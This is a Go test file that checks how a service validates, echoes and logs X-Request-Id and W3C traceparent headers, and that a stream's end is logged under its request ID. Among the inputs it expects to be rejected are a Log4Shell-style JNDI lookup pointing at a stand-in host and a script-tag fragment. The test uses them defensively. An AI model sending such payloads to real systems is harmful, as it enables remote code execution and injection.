package servicetest

import (
	"net/http"
	"strings"
	"testing"
)

// TestRequestIDs: one ID finds a request in the logs of a page, of a proxy and of the server, and nothing else gets in.
func TestRequestIDs(t *testing.T) {
	t.Parallel()
	s := newService(t)
	for id, kept := range map[string]bool{
		"7f3b1c9e-2d4a-4e8b-9c1f-0a2b3c4d5e6f":     true,
		"Root=1-67891233-abcdef012345678912345678": true,
		"mzXk/2Q+Yw==":                  true,
		strings.Repeat("x", 128):        true,
		strings.Repeat("x", 129):        false,
		"":                              false,
		"two words":                     false,
		"a\tb":                          false,
		`a"b`:                           false,
		"<script>":                      false,
		"größe":                         false,
		"a,b":                           false,
		"${jndi:ldap://evil.example/a}": false,
		"sk_" + strings.Repeat("ABCDEFGHIJKLMNOPQRST", 5): true, // whatever it is, it is the caller's own
	} {
		r := s.anonymous().call("GET", "/v1/sessions/current", nil, header("X-Request-Id", id))
		p := r.refused(http.StatusUnauthorized, "unauthenticated")
		if told := r.Header.Get("X-Request-Id"); (told == id) != kept || told == "" || p.RequestID != told {
			t.Errorf("the ID %q comes back as %q, and in the problem as %q", id, told, p.RequestID)
		}
		if kept && !s.log.contains(`"requestID":"`+id+`"`) {
			t.Errorf("the log does not have %q", id)
		}
		if !kept && id != "" && s.log.contains(id) {
			t.Errorf("the log has %q", id)
		}
	}
	r := s.anonymous().call("GET", "/v1/sessions/current", nil, func(r *http.Request) {
		r.Header["X-Request-Id"] = []string{"one", "two"}
	})
	if told := r.Header.Values("X-Request-Id"); len(told) != 1 || told[0] == "one" || told[0] == "two" {
		t.Errorf("of two IDs, %q is told", told)
	}
}

// TestTraceIDs: the log names the trace of a request by W3C Trace Context.
func TestTraceIDs(t *testing.T) {
	t.Parallel()
	s := newService(t)
	const trace, parent = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"
	for i, c := range []struct {
		traceparent string
		known       bool
	}{
		{"00-" + trace + "-" + parent + "-01", true},
		{"00-" + trace + "-" + parent + "-00", true},
		{"cc-" + trace + "-" + parent + "-01-what-the-future-holds", true},
		{"", false},
		{"00-" + trace + "-" + parent + "-01-more", false},
		{"cc-" + trace + "-" + parent + "-01.more", false},
		{"ff-" + trace + "-" + parent + "-01", false},
		{"00-" + strings.ToUpper(trace) + "-" + parent + "-01", false},
		{"00-" + strings.Repeat("0", 32) + "-" + parent + "-01", false},
		{"00-" + trace + "-" + strings.Repeat("0", 16) + "-01", false},
		{"00-" + trace + "-" + parent + "-0", false},
		{"00-" + trace + "--" + parent[1:] + "-01", false},
		{"00-" + trace[:30] + "zz-" + parent + "-01", false},
	} {
		id := strings.Repeat("i", i+1)
		s.anonymous().call("GET", "/v1/sessions/current", nil, header("Traceparent", c.traceparent), header("X-Request-Id", id))
		if got := s.log.contains(`"requestID":"` + id + `","traceID":"` + trace + `"}`); got != c.known {
			t.Errorf("%q: the log has the trace: %t", c.traceparent, got)
		}
		if got := s.log.contains(`"requestID":"` + id + `"}`); got == c.known {
			t.Errorf("%q: the log has the request without a trace: %t", c.traceparent, got)
		}
	}
}

// TestStreamEndLogsRequestID: how long a stream lasted and why it ended is found by the ID that opened it.
func TestStreamEndLogsRequestID(t *testing.T) {
	t.Parallel()
	s := newService(t)
	alice := s.login("alice")
	stream, _ := alice.listen(header("X-Request-Id", "of-the-stream"))
	stream.disconnect()
	want := `"session":"` + string(alice.SessionID) + `","requestID":"of-the-stream"}`
	eventually(t, "the log tells of the end", func() bool {
		return s.log.contains(want) && s.log.contains(`"msg":"stream ended","reason":"clientGone"`)
	})
}
